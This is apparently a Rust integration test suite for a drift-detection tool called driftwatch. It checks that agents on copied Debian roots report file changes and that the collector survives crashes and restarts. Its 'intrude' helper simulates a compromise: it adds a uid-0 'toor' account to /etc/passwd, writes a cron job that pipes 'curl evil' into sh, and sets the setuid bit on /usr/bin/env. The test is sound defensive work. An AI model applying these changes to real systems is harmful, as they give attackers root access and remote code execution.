//! The real binaries together: a collector, agents enrolled with a token and running the
//! daemon on their own copies of a Debian root, drift found and reported, and the collector's
//! view read back with the `driftwatch` CLI. Every wait is bounded.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use std::fs;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::time::Duration;

use driftwatch_tests::fleet::{Agent, Collector, Drift, Image, drift, postgres_url};
use driftwatch_tests::{debian, postgres, require_root};

const SETTLE: Duration = Duration::from_secs(45);

/// The drift an intruder leaves: /etc/passwd edited, a cron job added, a setuid binary.
fn intrude(root: &Path) -> Vec<Drift> {
    let passwd = root.join("etc/passwd");
    let mut text = fs::read_to_string(&passwd).unwrap();
    text.push_str("toor:x:0:0::/root:/bin/sh\n");
    fs::write(&passwd, text).unwrap();
    fs::write(
        root.join("etc/cron.d/evil"),
        "* * * * * root curl evil | sh\n",
    )
    .unwrap();
    fs::set_permissions(root.join("usr/bin/env"), fs::Permissions::from_mode(0o4755)).unwrap();
    let mut want = vec![
        drift("/etc/passwd", "modified"),
        drift("/etc/cron.d/evil", "added"),
        drift("/usr/bin/env", "modified"),
    ];
    want.sort();
    want
}

/// Three agents on their own roots; all clean; one intruded; only that one drifted.
fn fleet_body(database_url: Option<&str>) {
    let started = std::time::Instant::now();
    let base = debian::minbase();
    let work = tempfile::tempdir().unwrap();
    let image = Image::create(&base, work.path());
    let collector = Collector::start(work.path(), database_url);
    let token = collector.token(3);
    let fp = collector.ca_fingerprint();

    let roots: Vec<_> = (0..3).map(|_| debian::copy(&base)).collect();
    let mut agents: Vec<Agent> = roots
        .iter()
        .enumerate()
        .map(|(i, root)| {
            let dir = work.path().join(format!("agent-{i}"));
            fs::create_dir_all(&dir).unwrap();
            Agent::enroll(
                &collector,
                &token,
                &fp,
                &format!("host-{i}"),
                &dir,
                root.path(),
                &image,
            )
        })
        .collect();
    eprintln!("{:?}: enrolled", started.elapsed());
    for a in &mut agents {
        a.start();
    }
    collector.wait_for_state(
        "three clean hosts",
        SETTLE,
        &[("host-0", vec![]), ("host-1", vec![]), ("host-2", vec![])],
    );
    assert_eq!(collector.try_hosts().unwrap().len(), 3);

    eprintln!("{:?}: three clean", started.elapsed());
    let want = intrude(roots[1].path());
    agents[1].scan_now();
    collector.wait_for_state(
        "host-1 drifted, the others clean",
        SETTLE,
        &[("host-0", vec![]), ("host-1", want), ("host-2", vec![])],
    );

    eprintln!("{:?}: host-1 drifted", started.elapsed());
    let found = collector
        .cli(&["violations", "search", "--path", "/etc/cron.d/*"])
        .unwrap();
    let hosts: Vec<&str> = found["violations"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v["host_id"].as_str().unwrap())
        .collect();
    assert_eq!(hosts, ["host-1"], "search: {found}");
    for a in &agents {
        a.wait_spool_empty(SETTLE);
    }
}

#[test]
fn fleet_on_sqlite_reports_exactly_the_drifted_host() {
    if !require_root("copies of a Debian root with their ownership") {
        return;
    }
    fleet_body(None);
}

#[test]
fn fleet_on_postgres_reports_exactly_the_drifted_host() {
    if !require_root("copies of a Debian root with their ownership") {
        return;
    }
    let Some(pg) = postgres::server() else {
        return;
    };
    let url = postgres_url(&pg.create_database("fleet"));
    fleet_body(Some(&url));
}

/// A small seeded generator (splitmix64): the seed is printed so a failure can be replayed
/// with `DRIFTWATCH_TEST_SEED`.
struct Rng(u64);

impl Rng {
    fn from_env() -> Rng {
        let seed = std::env::var("DRIFTWATCH_TEST_SEED")
            .ok()
            .and_then(|s| s.parse().ok())
            .unwrap_or_else(|| {
                std::time::SystemTime::now()
                    .duration_since(std::time::UNIX_EPOCH)
                    .unwrap()
                    .as_nanos() as u64
            });
        eprintln!("random seed: {seed} (replay with DRIFTWATCH_TEST_SEED={seed})");
        Rng(seed)
    }

    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9e37_79b9_7f4a_7c15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
        z ^ (z >> 31)
    }

    fn below(&mut self, n: u64) -> u64 {
        self.next() % n
    }
}

/// Flips one of a few files of `root` between its image state and a drifted one. Errors are
/// ignored: a failing test removes the root under this helper's feet.
fn flip(root: &Path, which: u64, original_motd: &[u8]) {
    match which % 3 {
        0 => {
            let p = root.join("etc/motd");
            let now = fs::read(&p).unwrap_or_default();
            let _ = fs::write(
                &p,
                if now == original_motd {
                    b"owned\n"
                } else {
                    original_motd
                },
            );
        }
        1 => {
            let p = root.join("etc/cron.d/flap");
            let _ = if p.exists() {
                fs::remove_file(&p)
            } else {
                fs::write(&p, "* * * * * root true\n")
            };
        }
        _ => {
            let p = root.join("usr/bin/env");
            if let Ok(m) = fs::metadata(&p) {
                let new = if m.permissions().mode() & 0o7777 == 0o755 {
                    0o4755
                } else {
                    0o755
                };
                let _ = fs::set_permissions(&p, fs::Permissions::from_mode(new));
            }
        }
    }
}

#[test]
fn agent_killed_twenty_times_converges_to_the_roots_truth() {
    if !require_root("copies of a Debian root with their ownership") {
        return;
    }
    let mut rng = Rng::from_env();
    let base = debian::minbase();
    let work = tempfile::tempdir().unwrap();
    let image = Image::create(&base, work.path());
    let collector = Collector::start(work.path(), None);
    let root = debian::copy(&base);
    let dir = work.path().join("agent");
    fs::create_dir_all(&dir).unwrap();
    let mut agent = Agent::enroll(
        &collector,
        &collector.token(1),
        &collector.ca_fingerprint(),
        "crashy",
        &dir,
        root.path(),
        &image,
    );

    // The drifting helper: flips a few files every 20–200 ms until told to stop.
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let helper = {
        let stop = stop.clone();
        let root = root.path().to_path_buf();
        let mut hrng = Rng(rng.next());
        std::thread::spawn(move || {
            let motd = fs::read(root.join("etc/motd")).unwrap_or_default();
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                flip(&root, hrng.next(), &motd);
                std::thread::sleep(Duration::from_millis(20 + hrng.below(180)));
            }
        })
    };
    for round in 0..20 {
        agent.start();
        // No SIGUSR1 here: the daemon installs its handlers first thing in `run`, but argument
        // and config parsing come before that, and a signal in those milliseconds would still
        // kill it (the default action). The daemon scans at start anyway.
        std::thread::sleep(Duration::from_millis(rng.below(1500)));
        if let Some(st) = agent.daemon.as_mut().unwrap().try_exit() {
            panic!(
                "agent exited by itself in round {round}: {st}\n{}",
                agent.log()
            );
        }
        agent.kill();
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    helper.join().unwrap();

    let truth = agent.check(&image);
    eprintln!("the root's truth: {truth:?}");
    agent.start();
    let state: Vec<(&str, Vec<Drift>)> = vec![("crashy", truth)];
    collector.wait_for_state("the collector to agree with check", SETTLE, &state);
    agent.wait_spool_empty(SETTLE);
    let h = collector.try_host("crashy").unwrap();
    assert_eq!(h["incomplete"], false, "host: {h}");
}

/// The current UTC time in the API's format (RFC 3339 with milliseconds).
fn utc_now() -> String {
    let out = std::process::Command::new("date")
        .args(["-u", "+%Y-%m-%dT%H:%M:%S.%3NZ"])
        .output()
        .unwrap();
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

#[test]
fn collector_killed_between_commit_and_ack_applies_nothing_twice() {
    if !require_root("copies of a Debian root with their ownership") {
        return;
    }
    let exe = driftwatch_tests::failpoint_collector();
    let base = debian::minbase();
    let work = tempfile::tempdir().unwrap();
    let image = Image::create(&base, work.path());
    let mut collector = Collector::start_exe(work.path(), None, exe);
    let root = debian::copy(&base);
    let dir = work.path().join("agent");
    fs::create_dir_all(&dir).unwrap();
    let mut agent = Agent::enroll(
        &collector,
        &collector.token(1),
        &collector.ca_fingerprint(),
        "victim",
        &dir,
        root.path(),
        &image,
    );
    agent.start();
    collector.wait_for_state("a clean host", SETTLE, &[("victim", vec![])]);
    agent.wait_spool_empty(SETTLE);

    // The next commit aborts the collector before its ack.
    collector.kill();
    collector.restart(&[("DRIFTWATCH_FAILPOINTS", "collector-after-commit-before-ack")]);
    let want = intrude(root.path());
    agent.scan_now();
    let st = driftwatch_tests::daemon::wait_until(
        "the collector to hit the failpoint",
        SETTLE,
        Duration::from_millis(100),
        || {
            agent.scan_now();
            collector
                .daemon
                .as_mut()
                .unwrap()
                .try_exit()
                .ok_or_else(|| "still running".to_string())
        },
    );
    assert!(
        collector
            .log()
            .contains("failpoint collector-after-commit-before-ack reached"),
        "collector exited ({st}) but not at the failpoint:\n{}",
        collector.log()
    );
    collector.daemon = None;
    let crashed_at = utc_now();

    collector.restart(&[]);
    collector.wait_for_state(
        "the drift after the resend",
        SETTLE,
        &[("victim", want.clone())],
    );
    agent.wait_spool_empty(SETTLE);
    let first: Vec<(Drift, String)> = collector
        .try_violations("victim")
        .unwrap()
        .iter()
        .map(|v| {
            let d = driftwatch_tests::fleet::drifts(std::slice::from_ref(v)).remove(0);
            (d, v["first_seen"].as_str().unwrap().to_string())
        })
        .collect();
    for (d, seen) in &first {
        assert!(
            *seen < crashed_at,
            "{d:?} first seen {seen}, after the crash at {crashed_at}: applied again"
        );
    }
    // More scans change nothing: the same occurrences, same first_seen, same counts.
    let scanned = agent.status().unwrap()["last_scan"]["finished"].clone();
    driftwatch_tests::daemon::wait_until(
        "another scan",
        SETTLE,
        Duration::from_millis(250),
        || {
            agent.scan_now();
            let s = agent.status()?;
            if s["last_scan"]["finished"] == scanned {
                return Err(format!("{}", s["last_scan"]));
            }
            Ok(())
        },
    );
    agent.wait_spool_empty(SETTLE);
    collector.wait_for_state("the same drift", SETTLE, &[("victim", want)]);
    let mut again: Vec<(Drift, String)> = collector
        .try_violations("victim")
        .unwrap()
        .iter()
        .map(|v| {
            let d = driftwatch_tests::fleet::drifts(std::slice::from_ref(v)).remove(0);
            (d, v["first_seen"].as_str().unwrap().to_string())
        })
        .collect();
    let mut first = first;
    first.sort();
    again.sort();
    assert_eq!(first, again);
    let h = collector.try_host("victim").unwrap();
    assert_eq!(h["open"]["total"], 3, "host: {h}");
}

#[test]
fn collector_stopped_while_agents_drift_catches_up_after_restart() {
    if !require_root("copies of a Debian root with their ownership") {
        return;
    }
    let base = debian::minbase();
    let work = tempfile::tempdir().unwrap();
    let image = Image::create(&base, work.path());
    let mut collector = Collector::start(work.path(), None);
    let token = collector.token(2);
    let fp = collector.ca_fingerprint();
    let roots: Vec<_> = (0..2).map(|_| debian::copy(&base)).collect();
    let mut agents: Vec<Agent> = roots
        .iter()
        .enumerate()
        .map(|(i, root)| {
            let dir = work.path().join(format!("agent-{i}"));
            fs::create_dir_all(&dir).unwrap();
            Agent::enroll(
                &collector,
                &token,
                &fp,
                &format!("host-{i}"),
                &dir,
                root.path(),
                &image,
            )
        })
        .collect();
    for a in &mut agents {
        a.start();
    }
    collector.wait_for_state(
        "two clean hosts",
        SETTLE,
        &[("host-0", vec![]), ("host-1", vec![])],
    );

    collector.stop();
    // While the collector is away, both roots drift over several scans (2 s apart); host-0's
    // first drift is undone again, so its spool holds reports that cancel out.
    let motd0 = fs::read(roots[0].path().join("etc/motd")).unwrap();
    let want1 = intrude(roots[1].path());
    flip(roots[0].path(), 0, &motd0);
    flip(roots[0].path(), 1, &motd0);
    std::thread::sleep(Duration::from_secs(3));
    flip(roots[0].path(), 0, &motd0);
    std::thread::sleep(Duration::from_secs(3));
    for a in &agents {
        let s = a.status().unwrap();
        assert_ne!(
            s["spool"]["pending_records"].as_u64(),
            Some(0),
            "{}: scans while the collector is away leave nothing pending: {s}",
            a.host_id
        );
    }
    let want0 = vec![drift("/etc/cron.d/flap", "added")];
    assert_eq!(agents[0].check(&image), want0);
    assert_eq!(agents[1].check(&image), want1);

    collector.restart(&[]);
    collector.wait_for_state(
        "the roots' truth after the restart",
        SETTLE,
        &[("host-0", want0), ("host-1", want1)],
    );
    for a in &agents {
        a.wait_spool_empty(SETTLE);
    }
}
